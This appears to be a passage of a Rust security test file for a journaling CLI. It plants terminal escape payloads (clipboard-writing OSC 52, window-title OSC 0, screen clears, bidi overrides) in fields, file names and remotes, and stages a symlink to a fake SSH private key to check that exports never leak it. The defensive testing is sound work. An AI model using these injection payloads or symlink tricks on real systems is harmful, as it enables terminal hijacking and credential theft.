//! Hostile text, files and remotes (issue 13), tried as an attacker would: escape sequences
//! planted in every field and printed by every read command, symbolic links where the journal
//! has folders and files, remote trees holding links, submodules and machine-local state,
//! HTML smuggled through "plain text" exports and attachments, hints that run code when
//! pasted, endless and special files, `--out` paths that sneak back into the journal, and
//! file modes. Each test fails if its class of hole opens again.

use crate::common::browser::{Recorder, browse_within, chromium, page_requests};
use crate::common::servers::available;
use crate::common::{TestEnv, poll_until, run_git};
use std::io::Read;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

// ---------------------------------------------------------------------------------------
// Shared helpers
// ---------------------------------------------------------------------------------------

/// `mpl ARGS` with its raw output (no lossy conversion), checked for a panic.
fn raw(env: &TestEnv, args: &[&str]) -> Output {
    let out = env.cmd(args).output().expect("run mpl");
    assert!(
        !String::from_utf8_lossy(&out.stderr).contains("panicked"),
        "mpl {args:?} panicked:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// A few characters around byte `i`, for a failure message.
fn around(bytes: &[u8], i: usize) -> String {
    let from = i.saturating_sub(24);
    let to = (i + 24).min(bytes.len());
    format!("{:?}", String::from_utf8_lossy(&bytes[from..to]))
}

/// Whether `bytes` (after a 0xE2 lead byte) encode a bidi embedding, override or isolate:
/// U+202A..U+202E or U+2066..U+2069.
fn is_bidi(rest: &[u8]) -> bool {
    matches!(rest, [0x80, 0xaa..=0xae, ..] | [0x81, 0xa6..=0xa9, ..])
}

/// What in `bytes` a terminal would act on: any C0 control but newline and tab, DEL, a C1
/// control (UTF-8 0xC2 0x80..0x9F), a bidi control, and ESC unless it starts an SGR colour
/// sequence `ESC [ digits/; m` (and then only when `colour` is allowed).
fn terminal_problems(bytes: &[u8], colour: bool) -> Vec<String> {
    let mut problems = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        match b {
            0x1b => {
                let rest = &bytes[i + 1..];
                let sgr = if rest.first() == Some(&b'[') {
                    let n = rest[1..]
                        .iter()
                        .take_while(|c| c.is_ascii_digit() || **c == b';')
                        .count();
                    (rest.get(1 + n) == Some(&b'm')).then_some(2 + n)
                } else {
                    None
                };
                match sgr {
                    Some(len) if colour => {
                        i += 1 + len;
                        continue;
                    }
                    Some(_) => problems.push(format!(
                        "a colour sequence with --color never at byte {i}: {}",
                        around(bytes, i)
                    )),
                    None => problems.push(format!(
                        "ESC not starting a colour at byte {i}: {}",
                        around(bytes, i)
                    )),
                }
            }
            b'\n' | b'\t' => {}
            0x00..=0x1f | 0x7f => problems.push(format!(
                "control byte {b:#04x} at byte {i}: {}",
                around(bytes, i)
            )),
            0xc2 if matches!(bytes.get(i + 1), Some(0x80..=0x9f)) => {
                problems.push(format!("a C1 control at byte {i}: {}", around(bytes, i)))
            }
            0xe2 if is_bidi(&bytes[i + 1..]) => {
                problems.push(format!("a bidi control at byte {i}: {}", around(bytes, i)))
            }
            _ => {}
        }
        i += 1;
    }
    problems
}

/// What in a JSON document's raw bytes is a raw control character: JSON escapes them
/// (`\u001b`), and mpl escapes DEL and the C1 controls too.
fn json_problems(bytes: &[u8]) -> Vec<String> {
    let mut problems = Vec::new();
    for (i, &b) in bytes.iter().enumerate() {
        let bad = match b {
            b'\n' => false,
            0x00..=0x1f | 0x7f => true,
            0xc2 => matches!(bytes.get(i + 1), Some(0x80..=0x9f)),
            _ => false,
        };
        if bad {
            problems.push(format!("raw byte at {i}: {}", around(bytes, i)));
        }
    }
    problems
}

/// A TOML basic string holding `text`, every control character escaped as `\uXXXX`.
fn toml_str(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() => out.push_str(&format!("\\u{:04X}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Every file under `dir` (links are listed, never followed), as (path, bytes or none for a
/// link).
fn walk(dir: &Path) -> Vec<(PathBuf, Option<Vec<u8>>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for entry in entries {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.file_type().is_symlink() {
                out.push((path, None));
            } else if meta.is_dir() {
                stack.push(path);
            } else if meta.is_file() {
                let bytes = std::fs::read(&path).unwrap();
                out.push((path, Some(bytes)));
            }
        }
    }
    out.sort();
    out
}

/// Every folder, file and link under `dir`, relative to it.
fn tree(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for entry in entries {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            let rel = path.strip_prefix(dir).unwrap().display().to_string();
            if meta.is_dir() {
                out.push(format!("{rel}/"));
                stack.push(path);
            } else {
                out.push(rel);
            }
        }
    }
    out.sort();
    out
}

/// The symbolic links anywhere under `dir`.
fn links_under(dir: &Path) -> Vec<PathBuf> {
    walk(dir)
        .into_iter()
        .filter(|(_, bytes)| bytes.is_none())
        .map(|(path, _)| path)
        .collect()
}

/// The files under `dir` whose bytes hold `marker`.
fn holding(dir: &Path, marker: &str) -> Vec<PathBuf> {
    walk(dir)
        .into_iter()
        .filter(|(_, bytes)| {
            bytes
                .as_ref()
                .is_some_and(|b| String::from_utf8_lossy(b).contains(marker))
        })
        .map(|(path, _)| path)
        .collect()
}

/// The names in a folder (empty when it does not exist).
/// The pages of an exported site: index.html, the learning log, and the pages of goals and
/// evidence.
fn site_pages(site: &Path) -> Vec<std::path::PathBuf> {
    let mut pages: Vec<std::path::PathBuf> = ["index.html", "learning.html"]
        .iter()
        .map(|name| site.join(name))
        .filter(|path| path.is_file())
        .collect();
    for folder in ["goals", "evidence"] {
        pages.extend(
            names_in(&site.join(folder))
                .into_iter()
                .map(|name| site.join(folder).join(name)),
        );
    }
    pages
}

fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}

/// `git ARGS` in `dir` as someone else's plain git, asserting success; returns stdout.
fn git_in(dir: &Path, args: &[&str]) -> String {
    let mut git = Command::new("git");
    git.current_dir(dir)
        .env("HOME", dir)
        .env("GIT_AUTHOR_NAME", "Mallory")
        .env("GIT_AUTHOR_EMAIL", "mallory@example.com")
        .env("GIT_COMMITTER_NAME", "Mallory")
        .env("GIT_COMMITTER_EMAIL", "mallory@example.com");
    run_git(git, args)
}

/// What a run that had to finish in time printed.
struct Timed {
    code: i32,
    stdout: String,
    stderr: String,
}

/// Runs `cmd` (its stdin already set), failing the test if it is still running after
/// `secs` seconds (it is killed first).
fn within(mut cmd: Command, secs: u64, what: &str) -> Timed {
    let mut child = cmd
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn mpl");
    let reader = |mut pipe: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut buf = Vec::new();
            let _ = pipe.read_to_end(&mut buf);
            buf
        })
    };
    let out = reader(Box::new(child.stdout.take().unwrap()));
    let err = reader(Box::new(child.stderr.take().unwrap()));
    let mut status = None;
    if !poll_until(Duration::from_secs(secs), || {
        status = child.try_wait().unwrap();
        status.is_some()
    }) {
        let _ = child.kill();
        let _ = child.wait();
        panic!("{what} was still running after {secs} s and was killed");
    }
    let status = status.expect("mpl exited");
    let stdout = String::from_utf8_lossy(&out.join().unwrap()).into_owned();
    let stderr = String::from_utf8_lossy(&err.join().unwrap()).into_owned();
    assert!(!stderr.contains("panicked"), "{what} panicked:\n{stderr}");
    Timed {
        code: status.code().unwrap_or(-1),
        stdout,
        stderr,
    }
}

fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

// ---------------------------------------------------------------------------------------
// 1. Terminal injection
// ---------------------------------------------------------------------------------------

/// What an attacker plants in a field: OSC 52 (writes the clipboard), OSC 0 (sets the window
/// title), a screen clear, a colour, a carriage return that hides what came before, a
/// backspace, NUL, DEL, the one-byte C1 CSI and a right-to-left override.
fn payload(what: &str) -> String {
    format!(
        "{what} \u{1b}]52;c;aGk=\u{7} \u{1b}]0;pwned\u{7} \u{1b}[2J \u{1b}[31mred \
         hidden\rshown bs\u{8} nul\u{0} del\u{7f} csi\u{9b}31m rlo\u{202e}txt.exe pdi\u{2069} end"
    )
}

/// Raw bytes planted in a body by hand: ESC, BEL, CR, BS, DEL and the C1 CSI.
const RAW_BODY: &str = "Body text \u{1b}]52;c;Ym9keQ==\u{7} bell\u{7} clear\u{1b}[2J \
cr\rover bs\u{8} del\u{7f} c1\u{9b}2J rlo\u{202e}fdp.exe\n\nsecond paragraph\n";

/// A name with ESC and BEL, used for a file in the journal.
const EVIL_NAME: &str = "2026-11-23-name\u{1b}]0;pwned-by-name\u{7}\u{1b}[2J";

/// A journal where every field a read command prints holds escape sequences: goals,
/// evidence, learned, feedback, contacts, toolkit, a reflection with "Worth sharing"
/// answers, a custom challenge and its run, a file whose name holds ESC, and a remote URL.
fn hostile_journal() -> TestEnv {
    let env = TestEnv::new();
    env.ok(&["init", "--name", "Ada"]);
    let t = |what: &str| toml_str(&payload(what));
    let front = |id: &str, kind: &str, date: &str, title: &str, vis: &str, rest: &str| {
        format!(
            "+++\nid = \"{id}\"\nkind = \"{kind}\"\ndate = {date}\ncreated = {date}T09:00:00+01:00\n\
             title = {title}\ntags = [{tag}, \"plain\"]\ngoals = [\"evil-goal\"]\nvisibility = \"{vis}\"\n\
             custom_field = {field}\n{rest}+++\n\n{RAW_BODY}",
            tag = t("TAG"),
            field = t("FIELD"),
        )
    };
    env.write(
        "goals/evil-goal.md",
        &front(
            "evil-goal",
            "goal",
            "2026-11-01",
            &t("GOAL-TITLE"),
            "public",
            &format!(
                "status = \"active\"\nwhy = {}\naligned_with = {}\nmeasure = {}\ndue = 2026-12-31\n\n\
                 [[progress]]\ndate = 2026-11-20\npercent = 50\nnote = {}\n",
                t("WHY"),
                t("ALIGNED"),
                t("MEASURE"),
                t("PROGRESS")
            ),
        ),
    );
    env.write(
        "evidence/2026/2026-11-24-evil-evidence.md",
        &front(
            "2026-11-24-evil-evidence",
            "evidence",
            "2026-11-24",
            &t("EVIDENCE-TITLE"),
            "public",
            &format!(
                "impact = {}\nlinks = [\"https://example.com/ok\"]\n",
                t("IMPACT")
            ),
        ),
    );
    env.write(
        "learned/2026/2026-11-24-evil-learned.md",
        &front(
            "2026-11-24-evil-learned",
            "learned",
            "2026-11-24",
            &t("LEARNED-TITLE"),
            "public",
            "source = \"https://example.com/source\"\n",
        ),
    );
    env.write(
        "feedback/2026/2026-11-24-evil-feedback.md",
        &front(
            "2026-11-24-evil-feedback",
            "feedback",
            "2026-11-24",
            &t("FEEDBACK-TITLE"),
            "private",
            &format!("from = {}\n", t("FROM")),
        ),
    );
    env.write(
        "network/evil-contact.md",
        &front(
            "evil-contact",
            "network",
            "2026-11-02",
            &t("CONTACT"),
            "private",
            &format!(
                "where = {}\ntopics = [{}]\nmentor = true\n\n[[interaction]]\ndate = 2026-11-24\nnote = {}\n",
                t("WHERE"),
                t("TOPIC"),
                t("INTERACTION")
            ),
        ),
    );
    env.write(
        "toolkit/evil-tool.md",
        &front(
            "evil-tool",
            "toolkit",
            "2026-11-03",
            &t("TOOL"),
            "public",
            "type = \"tool\"\nurl = \"https://example.com/tool\"\n",
        ),
    );
    let sections = format!(
        "## Key moments\n\n{RAW_BODY}\n## What was difficult\n\n{RAW_BODY}\n\
         ## What I learned\n\n{RAW_BODY}\n## Next time\n\n{RAW_BODY}\n## Worth sharing\n\n{RAW_BODY}"
    );
    env.write(
        "reflections/2026/2026-11-24.md",
        &format!(
            "+++\nid = \"2026-11-24\"\nkind = \"reflection\"\ndate = 2026-11-24\n\
             created = 2026-11-24T18:00:00+01:00\ntitle = {}\ntags = [{}]\ngoals = [\"evil-goal\"]\n\
             visibility = \"private\"\n+++\n\n{sections}",
            t("REFLECTION-TITLE"),
            t("RTAG"),
        ),
    );
    // A file whose name holds escape sequences, and whose text is not an entry: every
    // warning that names it must show the name harmlessly.
    env.write(
        &format!("learned/2026/{EVIL_NAME}.md"),
        "+++\nkind = \"learned\"\ntitle = \n+++\n",
    );
    // A custom challenge, with a run started on the 20th and a check-in.
    let mut challenge = format!(
        "title = {}\nsummary = {}\ndescription = {}\ngoal = {}\n",
        t("CHALLENGE-TITLE"),
        t("SUMMARY"),
        t("DESCRIPTION"),
        t("CHALLENGE-GOAL")
    );
    for day in 1..=30 {
        challenge.push_str(&format!(
            "\n[[tasks]]\ntitle = {}\ntext = {}\ncommand = {}\n",
            t(&format!("TASK-{day}")),
            t("TASK-TEXT"),
            t("COMMAND")
        ));
    }
    env.write("challenges/evil.toml", &challenge);
    env.write(
        "challenges/runs/evil-2026-11-20.toml",
        &format!(
            "challenge = \"evil\"\ntitle = {}\nstarted = 2026-11-20\n\n[[checkin]]\nday = 1\n\
             date = 2026-11-20\nstatus = \"done\"\nat = 2026-11-20T18:00:00+01:00\nnote = {}\n",
            t("RUN-TITLE"),
            t("CHECKIN")
        ),
    );
    // Answers to recall, one with a rating that is a terminal code, and a comment of them.
    env.write(
        "recall.log",
        &format!(
            "# {}\n2026-11-24T10:00:00+01:00 2026-11-24-evil-learned hard\n\
             2026-11-24T11:00:00+01:00 2026-11-24-evil-learned bad\x1b]0;pwned\x07\x1b[2J\n",
            payload("RECALL-COMMENT")
        ),
    );
    // A remote whose address holds escape sequences.
    env.git(&[
        "remote",
        "add",
        "origin",
        "https://example.com/\u{1b}]0;remote-title\u{7}\u{1b}[2J.git",
    ]);
    env
}

/// Every read command, as arguments; `true` for those that print JSON.
fn read_commands() -> Vec<(Vec<&'static str>, bool)> {
    let human: Vec<Vec<&str>> = vec![
        vec!["log"],
        vec!["log", "--kind", "learned"],
        vec!["show", "2026-11-24-evil-learned"],
        vec!["show", "2026-11-24-evil-evidence"],
        vec!["show", "2026-11-24-evil-feedback"],
        vec!["show", "evil-goal"],
        vec!["show", "evil-tool"],
        vec!["search", "body"],
        vec!["search", "pwned"],
        vec!["goal", "list"],
        vec!["goal", "list", "--all"],
        vec!["goal", "show", "evil-goal"],
        vec!["evidence", "list"],
        vec!["feedback", "list"],
        vec!["network", "list"],
        vec!["network", "show", "evil-contact"],
        vec!["toolkit", "list"],
        vec!["share", "--since", "2026-11-01"],
        vec!["review", "--month"],
        vec!["review", "--since", "2026-11-01", "--until", "2026-11-25"],
        vec!["reflect", "--show", "--date", "2026-11-24"],
        vec!["export", "--format", "markdown"],
        vec!["export", "--format", "markdown", "--include-private"],
        vec!["export", "--dry-run"],
        vec!["export", "--dry-run", "--include-private"],
        vec!["doctor"],
        vec!["stats"],
        vec!["challenge", "list"],
        vec!["challenge", "show", "evil"],
        vec!["challenge", "status", "evil"],
        vec!["challenge", "status"],
        vec!["challenge", "today"],
        vec!["nudge"],
        vec!["recall", "--list"],
        vec!["recall", "--list", "--all"],
        vec!["remote"],
    ];
    let json: Vec<Vec<&str>> = vec![
        vec!["log", "--json"],
        vec!["show", "2026-11-24-evil-learned", "--json"],
        vec!["show", "evil-goal", "--json"],
        vec!["search", "body", "--json"],
        vec!["goal", "list", "--json"],
        vec!["goal", "show", "evil-goal", "--json"],
        vec!["evidence", "list", "--json"],
        vec!["feedback", "list", "--json"],
        vec!["network", "list", "--json"],
        vec!["network", "show", "evil-contact", "--json"],
        vec!["toolkit", "list", "--json"],
        vec!["reflect", "--show", "--date", "2026-11-24", "--json"],
        vec!["doctor", "--json"],
        vec!["stats", "--json"],
        vec!["challenge", "list", "--json"],
        vec!["challenge", "show", "evil", "--json"],
        vec!["challenge", "status", "evil", "--json"],
        vec!["remote", "--json"],
        vec!["recall", "--json", "--all"],
        vec!["export", "--format", "json"],
        vec!["export", "--format", "json", "--include-private"],
        vec!["export", "--format", "jsonresume"],
        vec!["export", "--format", "jsonresume", "--include-private"],
    ];
    human
        .into_iter()
        .map(|a| (a, false))
        .chain(json.into_iter().map(|a| (a, true)))
        .collect()
}

/// Attack: escape sequences planted in every field, body and file name reach the terminal
/// through a read command (OSC 52 writes the clipboard, OSC 0 the window title, CSI 2J
/// clears the screen, CR and BS hide text). Every read command, with and without colour.
#[test]
fn no_read_command_lets_a_control_character_reach_the_terminal() {
    let env = hostile_journal();
    let mut failures = Vec::new();
    let mut outputs = std::collections::HashMap::new();
    for (args, is_json) in read_commands() {
        for colour in ["never", "always"] {
            let mut all = vec!["--color", colour];
            all.extend_from_slice(&args);
            let out = raw(&env, &all);
            let code = out.status.code().unwrap_or(-1);
            // doctor exits 1 (the planted file is not an entry); nothing may be a usage error.
            if code != 0 && !(args[0] == "doctor" && code == 1) {
                failures.push(format!(
                    "mpl {all:?} exited {code}: {}",
                    String::from_utf8_lossy(&out.stderr)
                ));
            }
            let stdout_problems = if is_json {
                json_problems(&out.stdout)
            } else {
                terminal_problems(&out.stdout, colour == "always")
            };
            for p in stdout_problems {
                failures.push(format!("mpl {all:?} stdout: {p}"));
            }
            for p in terminal_problems(&out.stderr, colour == "always") {
                failures.push(format!("mpl {all:?} stderr: {p}"));
            }
            outputs.insert(all.join(" "), out);
        }
    }
    assert!(
        failures.is_empty(),
        "{} problems:\n{}",
        failures.len(),
        failures.join("\n")
    );

    // The hostile text is shown, visibly, not dropped: the checks above saw it.
    let text = |cmd: &str| {
        let out = &outputs[cmd];
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    };
    let visible_osc52 = "␛]52;c;aGk=␇";
    for cmd in [
        "--color never log",
        "--color never goal show evil-goal",
        "--color never network show evil-contact",
        "--color never challenge show evil",
        "--color never evidence list",
    ] {
        assert!(
            text(cmd).contains(visible_osc52),
            "`mpl {cmd}` does not show the planted text visibly:\n{}",
            text(cmd)
        );
    }
    let show = text("--color never show 2026-11-24-evil-learned");
    for shown in [
        "␛]52;c;Ym9keQ==␇",
        "bell␇",
        "clear␛[2J",
        "bs␈",
        "del␡",
        "\\u{9b}2J",
    ] {
        assert!(show.contains(shown), "{shown} missing from show:\n{show}");
    }
    let share = text("--color never share --since 2026-11-01");
    assert!(share.contains("clear␛[2J"), "{share}");
    // Warnings that name the planted file show its name harmlessly.
    let log = text("--color never log");
    assert!(
        log.contains("name␛]0;pwned-by-name␇␛[2J"),
        "log does not name the planted file visibly:\n{log}"
    );
    let remote = text("--color never remote");
    assert!(remote.contains("␛]0;remote-title␇"), "{remote}");
    let recall = text("--color never recall --list");
    assert!(recall.contains(visible_osc52), "{recall}");
    let doctor = text("--color never doctor");
    assert!(
        doctor.contains("recall.log:3: unknown rating \"bad␛]0;pwned␇␛[2J\""),
        "{doctor}"
    );
    // mpl's own colours still work.
    let coloured = &outputs["--color always log"].stdout;
    assert!(
        coloured.windows(2).any(|w| w == b"\x1b["),
        "--color always shows no colour at all"
    );
}

/// Attack: the JSON outputs carry the planted text to a script or another terminal; they
/// must escape it, and still round-trip it exactly (nothing silently changed).
#[test]
fn json_outputs_escape_control_characters_and_keep_the_text_exactly() {
    let env = hostile_journal();
    let parse = |args: &[&str]| -> serde_json::Value {
        let out = raw(&env, args);
        assert_eq!(
            out.status.code(),
            Some(0),
            "mpl {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let problems = json_problems(&out.stdout);
        assert!(problems.is_empty(), "mpl {args:?}: {problems:?}");
        let text = String::from_utf8(out.stdout).expect("UTF-8 JSON");
        assert!(
            text.contains("\\u001b") && text.contains("\\u0007"),
            "mpl {args:?} has no escaped ESC/BEL:\n{text}"
        );
        serde_json::from_str(&text).unwrap_or_else(|e| panic!("mpl {args:?}: {e}\n{text}"))
    };
    let find = |list: &serde_json::Value, id: &str| -> serde_json::Value {
        list.as_array()
            .unwrap_or_else(|| panic!("not a list: {list}"))
            .iter()
            .find(|e| e["id"] == id)
            .unwrap_or_else(|| panic!("{id} missing from {list}"))
            .clone()
    };
    let log = parse(&["log", "--json"]);
    assert_eq!(
        find(&log, "2026-11-24-evil-learned")["title"],
        payload("LEARNED-TITLE")
    );
    assert_eq!(find(&log, "evil-goal")["title"], payload("GOAL-TITLE"));
    let tags = find(&log, "2026-11-24-evil-evidence")["tags"].clone();
    assert!(
        tags.as_array()
            .unwrap()
            .contains(&serde_json::json!(payload("TAG"))),
        "{tags}"
    );
    let goals = parse(&["goal", "list", "--json"]);
    assert_eq!(find(&goals, "evil-goal")["title"], payload("GOAL-TITLE"));
    let network = parse(&["network", "list", "--json"]);
    assert_eq!(find(&network, "evil-contact")["title"], payload("CONTACT"));
    let export = parse(&["export", "--format", "json", "--include-private"]);
    let exported = export.to_string();
    for what in ["GOAL-TITLE", "EVIDENCE-TITLE", "IMPACT", "LEARNED-TITLE"] {
        let value = serde_json::Value::String(payload(what)).to_string();
        assert!(
            exported.contains(&value),
            "{what} is not kept exactly in the JSON export"
        );
    }
    // JSON Resume strings are plain text: still no raw control character, and the document
    // parses.
    parse(&["export", "--format", "jsonresume", "--include-private"]);
}

/// Attack: control characters typed or pasted on the command line or piped on stdin are
/// stored, to be replayed by every later read. They are refused and nothing is written.
#[test]
fn control_characters_given_to_mpl_are_refused_and_nothing_is_written() {
    let env = TestEnv::new();
    env.ok(&["init"]);
    let commits = env.commit_count();
    let err = env.fails(&["learn", "x\u{1b}[2J"], 2);
    assert!(err.contains("U+001B"), "{err}");
    assert!(!err.contains('\u{1b}'), "{err:?}");
    let err = env.fails(&["learn", "fine title", "--tag", "t\u{1b}]0;x\u{7}"], 2);
    assert!(err.contains("U+001B"), "{err}");
    let err = env.fails(&["evidence", "add", "e", "--impact", "a\u{9b}2Jb"], 2);
    assert!(err.contains("U+009B"), "{err}");
    let err = env.fails(&["goal", "add", "g\u{7f}"], 2);
    assert!(err.contains("U+007F"), "{err}");
    // NUL on standard input.
    let run = env.run_with_stdin(&["learn"], "a\0b");
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("U+0000"), "{}", run.stderr);
    // ESC on standard input.
    let run = env.run_with_stdin(&["learn"], "title\n\nbody \u{1b}]52;c;aGk=\u{7}\n");
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(env.commit_count(), commits, "something was committed");
    assert_eq!(
        env.git(&["status", "--porcelain"]),
        "",
        "something was written"
    );
    assert!(env.log_json(&[]).is_empty());
    // A title typed on Windows (CRLF) is stored with plain line ends.
    let run = env.run_with_stdin(
        &["learn"],
        "Windows title\r\n\r\nA body line\r\nanother\r\n",
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let entries = env.log_json(&[]);
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0]["title"], "Windows title");
    let path = entries[0]["path"].as_str().unwrap().to_string();
    let stored = std::fs::read(env.path(&path)).unwrap();
    assert!(
        !stored.contains(&b'\r'),
        "stored with a CR: {:?}",
        String::from_utf8_lossy(&stored)
    );
    assert!(String::from_utf8_lossy(&stored).contains("A body line\nanother"));
}

/// Attack: bytes that are not UTF-8 around an escape sequence, so the argument check passes
/// them to the parser, whose usage error might echo them.
#[test]
fn usage_errors_never_echo_escape_sequences() {
    use std::os::unix::ffi::OsStrExt;
    let env = TestEnv::new();
    let evil = std::ffi::OsStr::from_bytes(b"\xff\x1b]0;pwned\x07\x1b[2J");
    for args in [
        vec![evil],
        vec![std::ffi::OsStr::new("learn"), evil],
        vec![
            std::ffi::OsStr::new("log"),
            std::ffi::OsStr::new("--kind"),
            evil,
        ],
        vec![
            std::ffi::OsStr::new("--journal"),
            evil,
            std::ffi::OsStr::new("log"),
        ],
    ] {
        let out = env.cmd(&[]).args(&args).output().unwrap();
        assert_ne!(out.status.code(), Some(0), "{args:?}");
        let problems = terminal_problems(&out.stderr, false);
        assert!(problems.is_empty(), "{args:?}: {problems:?}");
        assert!(terminal_problems(&out.stdout, false).is_empty(), "{args:?}");
    }
}

/// Attack: a remote (or a `--journal` path) whose address holds escape sequences, echoed by
/// the errors of `sync`, `clone` and `remote`.
#[test]
fn errors_naming_a_remote_show_its_control_characters_as_text() {
    let env = TestEnv::new();
    env.ok(&["init"]);
    let evil = env.root.join("gone\u{1b}]0;pwned\u{7}\u{1b}[2J.git");
    env.git(&["remote", "add", "origin", evil.to_str().unwrap()]);
    for colour in ["never", "always"] {
        for args in [
            vec!["sync"],
            vec!["remote"],
            vec!["doctor"],
            vec!["clone", evil.to_str().unwrap(), "copy"],
        ] {
            let mut all = vec!["--color", colour];
            all.extend_from_slice(&args);
            let out = raw(&env, &all);
            for (what, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
                let problems = terminal_problems(bytes, colour == "always");
                assert!(problems.is_empty(), "mpl {all:?} {what}: {problems:?}");
            }
        }
    }
    // `clone` refuses a control character in its argument before anything else.
    let err = env.fails(&["clone", evil.to_str().unwrap(), "copy"], 2);
    assert!(err.contains("U+001B"), "{err}");
    let err = env.fails(&["sync"], 1);
    assert!(err.contains("␛]0;pwned␇"), "{err}");
}

// ---------------------------------------------------------------------------------------
// 2. Symbolic links inside the journal are never followed
// ---------------------------------------------------------------------------------------

const KEY_MARKER: &str = "SECRET-PRIVATE-KEY-MARKER";

/// Whether `text` names `name` as a symbolic link.
fn names_link(text: &str, name: &str) -> bool {
    text.contains(name) && text.contains("symbolic link")
}

/// Attack: `attachments` arrives as a link to `~/.ssh`, and an evidence entry names the
/// private key in it as an attachment: the public site would publish the key.
#[test]
fn an_attachments_folder_that_is_a_link_is_never_exported_and_doctor_names_it() {
    let env = TestEnv::new();
    env.ok(&["init", "--name", "Ada"]);
    let note = env.root.join("note.txt");
    std::fs::write(&note, format!("NOTE-BEHIND-THE-LINK {KEY_MARKER}")).unwrap();
    env.ok(&[
        "evidence",
        "add",
        "Rotated the deploy keys",
        "--file",
        note.to_str().unwrap(),
    ]);
    // The real attachments move outside, next to a fake private key; a link replaces them.
    let ssh = env.root.join("dot-ssh");
    std::fs::rename(env.path("attachments"), &ssh).unwrap();
    let key = format!(
        "-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY_MARKER}\n-----END OPENSSH PRIVATE KEY-----\n"
    );
    std::fs::write(ssh.join("id_ed25519"), &key).unwrap();
    symlink(&ssh, env.path("attachments")).unwrap();
    let entry = env.log_json(&["--kind", "evidence"])[0]["path"]
        .as_str()
        .unwrap()
        .to_string();
    let text = env.read(&entry).replacen(
        "[[attachments]]",
        &format!(
            "[[attachments]]\nname = \"id_ed25519\"\nfile = \"attachments/id_ed25519\"\nbytes = {}\n\n[[attachments]]",
            key.len()
        ),
        1,
    );
    env.write(&entry, &text);

    let run = env.run(&["export", "--out", "site"]);
    assert!(
        names_link(&run.stderr, "attachments"),
        "export does not warn about the link (exit {}):\n{}",
        run.code,
        run.stderr
    );
    let site = env.root.join("site");
    assert_eq!(holding(&site, KEY_MARKER), Vec::<PathBuf>::new());
    assert_eq!(links_under(&site), Vec::<PathBuf>::new());
    for format in ["json", "jsonresume", "markdown"] {
        let out = env.run(&["export", "--format", format, "--include-private"]);
        assert!(!out.stdout.contains(KEY_MARKER), "{format}: {}", out.stdout);
    }
    let doctor = env.run(&["doctor"]);
    assert_eq!(doctor.code, 1, "{}{}", doctor.stdout, doctor.stderr);
    assert!(
        names_link(
            &format!("{}{}", doctor.stdout, doctor.stderr),
            "attachments"
        ),
        "{}{}",
        doctor.stdout,
        doctor.stderr
    );
}

/// Attack: `learned` (or a year folder, `reflections`, `attachments`, `challenges`) arrives
/// as a link to a folder outside the journal, so a command that writes there would create files
/// or folders outside it.
#[test]
fn a_kind_folder_that_is_a_link_is_never_written_through() {
    let mut failures = Vec::new();
    for (link, args) in [
        ("learned", vec!["learn", "x"]),
        ("learned/2026", vec!["learn", "x"]),
        ("reflections", vec!["reflect", "--moments", "x"]),
        (
            "attachments",
            vec!["evidence", "add", "x", "--file", "other.txt"],
        ),
        ("challenges", vec!["challenge", "start", "network"]),
    ] {
        let env = TestEnv::new();
        std::fs::write(env.root.join("note.txt"), "a note").unwrap();
        // (Relative --file paths are from the test's root, the commands' working folder.)
        std::fs::write(env.root.join("other.txt"), "another note").unwrap();
        // Make the folder first, the way mpl would.
        env.ok(&["learn", "First lesson"]);
        env.ok(&["reflect", "--date", "yesterday", "--moments", "first"]);
        env.ok(&[
            "evidence",
            "add",
            "First",
            "--file",
            env.root.join("note.txt").to_str().unwrap(),
        ]);
        env.ok(&["challenge", "start", "day-job", "--on", "2026-11-20"]);
        let outside = env.root.join("elsewhere");
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::rename(env.path(link), outside.join("moved")).unwrap();
        symlink(&outside, env.path(link)).unwrap();
        let commits = env.commit_count();
        let run = env.run(&args);
        if run.code != 1 || !names_link(&run.stderr, link) {
            failures.push(format!(
                "{link}: mpl {args:?} exited {}: {}",
                run.code, run.stderr
            ));
        }
        if names_in(&outside) != ["moved"] {
            failures.push(format!(
                "{link}: mpl {args:?} wrote outside the journal: {:?}",
                tree(&outside)
            ));
        }
        if env.commit_count() != commits {
            failures.push(format!("{link}: mpl {args:?} committed"));
        }
        // (The log reads entries, not attachments or challenges.)
        let run = env.run(&["log"]);
        if !matches!(link, "attachments" | "challenges") && !names_link(&run.stderr, link) {
            failures.push(format!("{link}: log does not warn: {}", run.stderr));
        }
        let doctor = env.run(&["doctor"]);
